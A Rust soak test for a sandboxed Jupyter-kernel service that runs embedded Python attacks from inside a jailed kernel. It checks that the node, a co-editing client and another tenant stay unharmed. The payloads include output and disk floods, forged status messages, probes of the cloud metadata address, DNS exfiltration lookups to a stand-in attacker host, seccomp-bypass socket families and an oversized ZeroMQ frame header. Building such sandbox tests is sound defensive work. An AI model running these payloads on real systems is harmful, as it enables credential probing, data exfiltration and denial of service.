//! The kernel as attacker, for a minute: one cell of a jailed kernel tries every attack of the
//! security review in a loop (output floods, stderr without newlines, forged status flips, a
//! refusal flood at the metadata address, DNS exfiltration names, seccomp family bypasses,
//! filling its runtime folder and `/tmp`), then writes a 2^62-byte ZeroMQ frame header into its
//! own shell connection. Meanwhile a second client of the same document edits a cell every
//! 200 ms, and a kernel of another tenant fetches a page through the same gateway every second.
//!
//! What must hold throughout: the node stays up and its memory under [`RSS_BOUND`]; the second
//! client stays connected, gets every edit acknowledged and sees the notices; the host's `/tmp`
//! gets nothing from the kernel; the other tenant is served every time. At the end the kernel
//! is stopped for the ZeroMQ header, and the node restarts one on request.
//!
//! `AIRLOCK_SOAK_SECS` sets the attack's length (default 60). Runs in the network-namespace
//! world of `tests/support_netns` (root, `ip netns`); skips with the reason where it cannot.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support_netns;

use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use airlock_client::Client;
use airlock_protocol::token::{self, Claims, Role};
use airlock_protocol::{
    CellEdit, CellKind, ClientMessage, DeathCause, KernelStatus, Output, RunStatus, ServerMessage,
};
use ed25519_dalek::SigningKey;

use support_netns::{BETA_IP, NodeProcess, World, cannot_run};

const ATTACKER_DOC: &str = "soak-attacker";
const BYSTANDER_DOC: &str = "soak-bystander";
/// The most the attacked node may hold at any moment (its RSS), whatever the kernel does.
const RSS_BOUND: u64 = 256 << 20;

/// One round of every attack, repeated until `deadline` (seconds since the epoch).
const ATTACK: &str = r#"
import os, sys, time, socket, json, threading
from ipykernel.connect import get_connection_file
deadline = DEADLINE
k = get_ipython().kernel
runtime = os.path.dirname(get_connection_file())
err = sys.stderr.fileno()
os.set_blocking(err, False)
rounds = 0
def attempt(fn):
    try:
        fn()
    except Exception:
        pass
while time.time() < deadline:
    rounds += 1
    # Output floods: many prints, huge displays, forged status flips.
    for i in range(2000):
        print('x' * 100)
    for i in range(3):
        display({'text/plain': 'y' * 3_000_000}, raw=True)
    for i in range(200):
        k.session.send(k.iopub_socket, 'status', {'execution_state': 'idle' if i % 2 else 'busy'}, parent=k.get_parent('shell'))
    # The node's own stderr pipe, without a newline.
    attempt(lambda: os.write(err, b'A' * (1 << 20)))
    # A refusal flood at the metadata address, and exfiltration by name.
    for i in range(50):
        attempt(lambda: socket.create_connection(('169.254.169.254', 80), timeout=1).close())
    for i in range(20):
        attempt(lambda: socket.getaddrinfo(f'{rounds:04x}{i:04x}deadbeef.attacker.test', 80))
    # Families the seccomp filter must refuse.
    attempt(lambda: socket.socketpair(30, socket.SOCK_SEQPACKET, 0))  # AF_TIPC
    attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132))  # SCTP
    # Fill the runtime folder and /tmp.
    for i in range(100):
        attempt(lambda: open(os.path.join(runtime, f'fill-{rounds}-{i}'), 'wb').write(b'z' * 65536))
        attempt(lambda: open(f'/tmp/fill-{rounds}-{i}', 'wb').write(b'z' * 65536))
print('rounds', rounds)
"#;

/// Writes a long frame header of 2^62 bytes into the kernel's end of the shell connection.
const ZMTP_BOMB: &str = r#"
import os, socket, json
from ipykernel.connect import get_connection_file
info = json.load(open(get_connection_file()))
path = f"{info['ip']}-{info['shell_port']}"
for n in os.listdir('/proc/self/fd'):
    try:
        s = socket.socket(fileno=os.dup(int(n)))
    except OSError:
        continue
    if s.family == socket.AF_UNIX and s.getsockname() == path and not s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
        os.write(int(n), b'\x02' + (1 << 62).to_bytes(8, 'big'))
    s.close()
import time; time.sleep(5)
"#;

fn rss_of(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmRSS:"))
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|n| n.parse::<u64>().ok())
        .unwrap()
        * 1024
}

/// Entries of the host's `/tmp` owned by a kernel's host uid (the jail maps kernels to
/// 1000000 and above).
fn kernel_files_in_host_tmp() -> Vec<String> {
    use std::os::unix::fs::MetadataExt;
    std::fs::read_dir("/tmp")
        .unwrap()
        .filter_map(Result::ok)
        .filter(|entry| entry.metadata().is_ok_and(|m| m.uid() >= 1_000_000))
        .map(|entry| entry.path().display().to_string())
        .collect()
}

fn client_token(key: &SigningKey, doc: &str, user: &str) -> String {
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs();
    token::sign(
        &Claims {
            doc: doc.into(),
            user: user.into(),
            role: Role::Editor,
            epoch: 1,
            exp: now + 3600,
        },
        key,
    )
}

fn text(outputs: &[Output]) -> String {
    outputs
        .iter()
        .filter_map(|output| match output {
            Output::Stream { text, .. } => Some(text.as_str()),
            _ => None,
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_kernel_attacking_everything_for_a_minute_harms_nobody_else() {
    if let Some(reason) = cannot_run() {
        eprintln!("skipped: {reason}");
        return;
    }
    let secs: u64 = std::env::var("AIRLOCK_SOAK_SECS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(60);
    let world = World::build().await;
    let (key, key_file) = world.token_key();
    let (attacked, attacked_connect) = NodeProcess::spawn(&world, &key_file, ATTACKER_DOC, "alpha");
    let (bystander, bystander_connect) =
        NodeProcess::spawn(&world, &key_file, BYSTANDER_DOC, "beta");
    let attacked = NodeProcess::wait_ready(attacked, &attacked_connect, ATTACKER_DOC).await;
    let bystander = NodeProcess::wait_ready(bystander, &bystander_connect, BYSTANDER_DOC).await;
    let node_pid = attacked.daemon.child.id();
    let tmp_before = kernel_files_in_host_tmp();

    let mut attacker = Client::connect(
        &attacked.target,
        &client_token(&key, ATTACKER_DOC, "mallory"),
    )
    .await
    .unwrap();
    let mut editor = Client::connect(&attacked.target, &client_token(&key, ATTACKER_DOC, "alice"))
        .await
        .unwrap();
    let mut other_tenant =
        Client::connect(&bystander.target, &client_token(&key, BYSTANDER_DOC, "bob"))
            .await
            .unwrap();

    // The editor's own cell, edited throughout.
    editor
        .edit_cells(
            vec![CellEdit::Insert {
                index: 0,
                cell: Some("notes".into()),
                kind: CellKind::Markdown,
                source: "notes".into(),
            }],
            false,
        )
        .await
        .unwrap();

    let deadline = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + secs;
    let attack = ATTACK.replace("DEADLINE", &deadline.to_string());
    let started = Instant::now();
    let attack_run = tokio::spawn(async move {
        let report = attacker.run(&attack, |_| {}).await.unwrap();
        (attacker, report)
    });

    // The other tenant, every second, through the same gateway.
    let bystander_loop = tokio::spawn(async move {
        let mut served = 0u32;
        let until = Instant::now() + Duration::from_secs(secs);
        // One request a second: a pace, not a wait for readiness.
        let mut pace = tokio::time::interval(Duration::from_secs(1));
        while Instant::now() < until {
            pace.tick().await;
            let report = other_tenant
                .run(
                    r#"import urllib.request; print(urllib.request.urlopen("http://web.example/", timeout=10).read().decode())"#,
                    |_| {},
                )
                .await
                .unwrap();
            assert_eq!(
                text(&report.outputs).trim(),
                BETA_IP.to_string(),
                "the other tenant was not served"
            );
            served += 1;
        }
        served
    });

    // The editor edits every 200 ms, each edit acknowledged, and watches what the node says.
    let mut edits = 0u32;
    let mut notices = 0usize;
    let mut max_rss = 0u64;
    // The attack may starve its own kernel until it misses heartbeats: then the kernel dies, and
    // what matters is that every client is told why and the node goes on.
    let mut deaths = Vec::new();
    while !attack_run.is_finished() {
        edits += 1;
        let accepted = tokio::time::timeout(
            Duration::from_secs(10),
            editor.edit_cells(
                vec![CellEdit::SetSource {
                    cell: "notes".into(),
                    source: format!("edit {edits}"),
                }],
                false,
            ),
        )
        .await
        .expect("an edit was acknowledged within 10 s")
        .expect("the editor's session is alive");
        assert!(accepted.warnings.is_empty(), "{:?}", accepted.warnings);
        let until = tokio::time::Instant::now() + Duration::from_millis(200);
        while let Ok(Ok(message)) = tokio::time::timeout_at(until, editor.recv()).await {
            if let ServerMessage::Output(out) = &message
                && text(std::slice::from_ref(&out.output)).contains("[airlock")
            {
                notices += 1;
            }
            if let ServerMessage::Kernel(KernelStatus::Dead { cause }) = message {
                deaths.push(cause);
            }
        }
        max_rss = max_rss.max(rss_of(node_pid));
        assert!(
            max_rss < RSS_BOUND,
            "the node holds {max_rss} bytes, over {RSS_BOUND}"
        );
        assert!(
            started.elapsed() < Duration::from_secs(secs + 120),
            "the attack cell did not end"
        );
    }
    let (mut attacker, report) = attack_run.await.unwrap();
    let served = bystander_loop.await.unwrap();
    let attack_output = text(&report.outputs);
    println!(
        "{secs} s of attack: {edits} edits acknowledged, {notices} notices seen, node RSS at most \
         {} MiB, the other tenant served {served} times; the run ended {:?}; the cell said: {}",
        max_rss >> 20,
        report.done.status,
        attack_output
            .lines()
            .filter(|l| l.starts_with("rounds"))
            .collect::<String>()
    );
    // The attack's last line ("rounds N") may be among the output the node did not show live
    // (the attack floods far past the live budget), so the run's status says how it ended.
    if report.done.status != RunStatus::Ok {
        // Cut short: only by the kernel's death, told to the other client with its cause.
        let cause = match deaths.first() {
            Some(cause) => cause.clone(),
            None => {
                next_matching(&mut editor, |message| match message {
                    ServerMessage::Kernel(KernelStatus::Dead { cause }) => Some(cause),
                    _ => None,
                })
                .await
            }
        };
        println!("the attack's kernel died under its own attack: {cause}");
        restart(&mut editor).await;
    }
    assert!(notices > 0, "the editor saw the node's notices");
    assert!(
        served >= (secs as u32) / 4,
        "the other tenant was served {served} times"
    );
    assert_eq!(
        kernel_files_in_host_tmp(),
        tmp_before,
        "the kernel wrote into the host's /tmp"
    );

    // Last, the ZeroMQ header: the kernel is stopped, the node is not.
    attacker.execute(ZMTP_BOMB).await.unwrap();
    let cause = next_matching(&mut editor, |message| match message {
        ServerMessage::Kernel(KernelStatus::Dead { cause }) => Some(cause),
        _ => None,
    })
    .await;
    assert!(
        matches!(cause, DeathCause::ChannelViolated { .. }),
        "{cause}"
    );
    restart(&mut editor).await;
    let report = editor.run("print('after')", |_| {}).await.unwrap();
    assert_eq!(text(&report.outputs), "after\n");
    let mut attacked = attacked;
    assert!(
        attacked.daemon.child.try_wait().unwrap().is_none(),
        "the node is up"
    );
    assert!(rss_of(node_pid) < RSS_BOUND);
}

/// Restarts the kernel and waits for the fresh one's idle (earlier statuses may still wait in
/// the client's queue: the fresh idle is the first after `restarting`).
async fn restart(client: &mut Client) {
    client.send(&ClientMessage::Restart).await.unwrap();
    next_matching(client, |message| {
        matches!(message, ServerMessage::Kernel(KernelStatus::Restarting)).then_some(())
    })
    .await;
    next_matching(client, |message| {
        matches!(message, ServerMessage::Kernel(KernelStatus::Idle)).then_some(())
    })
    .await;
}

/// The next message `pick` accepts within a minute.
async fn next_matching<T>(
    client: &mut Client,
    mut pick: impl FnMut(ServerMessage) -> Option<T>,
) -> T {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
    loop {
        let message = tokio::time::timeout_at(deadline, client.recv())
            .await
            .expect("the message came in time")
            .expect("the connection is open");
        if let Some(found) = pick(message) {
            return found;
        }
    }
}
